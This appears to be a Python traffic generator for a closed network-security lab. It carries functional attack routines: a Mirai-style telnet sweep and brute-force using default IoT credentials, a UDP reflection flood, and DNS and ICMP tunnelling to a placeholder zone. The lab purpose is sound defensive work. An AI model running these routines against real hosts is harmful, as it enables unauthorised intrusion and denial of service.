# SPDX-License-Identifier: BSD-3-Clause
"""
Attacks of the lab for which Debian has no fitting tool; all are bounded in count and time, and started by attacks.py
inside a namespace that has no way out. Usage: intruders.py NAME KEY=VALUE...
"""
import ipaddress
import random
import selectors
import socket
import struct
import time

from arguments import comma_list, run_by_name

LOGINS = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"), ("support", "support"),
          ("root", "default"), ("user", "user"), ("admin", "password"), ("root", "root"), ("guest", "12345")]


def wait_until(moment):
    time.sleep(max(0.0, moment - time.monotonic()))


def telnet_login(link, name, password):
    """One try at a prompt; True if it was not refused."""
    link.settimeout(3)
    for text in (name, password):
        link.recv(500)
        link.sendall(text.encode() + b"\r\n")
    return b"incorrect" not in link.recv(500)


def telnet_sweep(source, networks, n_addresses, per_second, seed=0):
    """As Mirai does: random addresses, port 23 (one in ten 2323), little patience, logins where a port is open."""
    rng = random.Random(seed)
    networks = [ipaddress.ip_network(network) for network in comma_list(networks)]
    waiting = selectors.DefaultSelector()
    start = time.monotonic()
    for number in range(n_addresses):
        wait_until(start + number / per_second)
        network = rng.choice(networks)
        link = socket.socket()
        link.setblocking(False)
        link.bind((source, 0))
        link.connect_ex((str(network[rng.randrange(network.num_addresses)]), 2323 if rng.random() < 0.1 else 23))
        waiting.register(link, selectors.EVENT_WRITE, time.monotonic())
        sweep_results(waiting, rng)


def sweep_results(waiting, rng, patience_s=3.0):
    opened = {key.fd for key, _ in waiting.select(0)}
    for key in list(waiting.get_map().values()):
        if key.fd not in opened and time.monotonic() - key.data < patience_s:
            continue
        waiting.unregister(key.fileobj)
        if key.fd in opened and key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            try:
                telnet_login(key.fileobj, *rng.choice(LOGINS))
            except OSError:
                pass
        key.fileobj.close()


def telnet_brute(source, server, n_tries, seed=0):
    """Three logins a connection, as the prompt allows, until the count is reached."""
    rng = random.Random(seed)
    for _ in range(n_tries // 3):
        try:
            with socket.create_connection((server, 23), 3, (source, 0)) as link:
                for _ in range(3):
                    telnet_login(link, *rng.choice(LOGINS))
        except OSError:
            time.sleep(0.2)


def amplify(sources, source_port, victim, victim_port, n_packets, per_second, smallest, largest, seed=0):
    """The replies of reflectors to questions that a victim never asked; large ones come in fragments."""
    rng = random.Random(seed)
    links = []
    for source in comma_list(sources):
        link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        link.bind((source, source_port))
        links.append(link)
    size_of = {link: rng.randrange(smallest, largest + 1) for link in links}
    start = time.monotonic()
    for number in range(n_packets):
        wait_until(start + number / per_second)
        link = rng.choice(links)
        port = victim_port or rng.randrange(1024, 65536)
        try:
            link.sendto(rng.randbytes(size_of[link]), (victim, port))
        except OSError:
            pass


def dns_name(data, zone):
    text = data.hex()
    return ".".join([text[i:i + 60] for i in range(0, len(text), 60)] + [zone])


def dns_tunnel(source, server, n_queries, per_second, per_port, seed=0):
    """Data in the names of TXT and NULL questions to one zone; per_port: questions until another port is taken."""
    rng = random.Random(seed)
    start = time.monotonic()
    for first in range(0, n_queries, per_port):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.bind((source, 0))
            link.settimeout(0.5)
            for number in range(first, min(first + per_port, n_queries)):
                wait_until(start + number / per_second)
                dns_question(link, server, number, dns_name(rng.randbytes(rng.randrange(40, 110)), "t.example"),
                             rng.choice([16, 16, 10]))


def dns_question(link, server, number, name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    head = struct.pack(">HHHHHH", number & 0xFFFF, 0x100, 1, 0, 0, 0)
    link.sendto(head + labels + b"\0" + struct.pack(">HH", kind, 1), (server, 53))
    try:
        link.recv(4096)
    except OSError:
        pass


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def icmp_tunnel(source, server, n_packets, per_second, seed=0):
    """A transfer in the payload of echo requests: large and small ones; the kernel of the server answers."""
    rng = random.Random(seed)
    identifier = rng.randrange(65536)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as link:
        link.bind((source, 0))
        start = time.monotonic()
        for number in range(n_packets):
            wait_until(start + number / per_second)
            data = rng.randbytes(2 * rng.choice([14, 30, 260, 500, 600]))
            head = struct.pack(">BBHHH", 8, 0, 0, identifier, number & 0xFFFF)
            head = struct.pack(">BBHHH", 8, 0, checksum(head + data), identifier, number & 0xFFFF)
            link.sendto(head + data, (server, 0))


if __name__ == "__main__":
    run_by_name(globals())
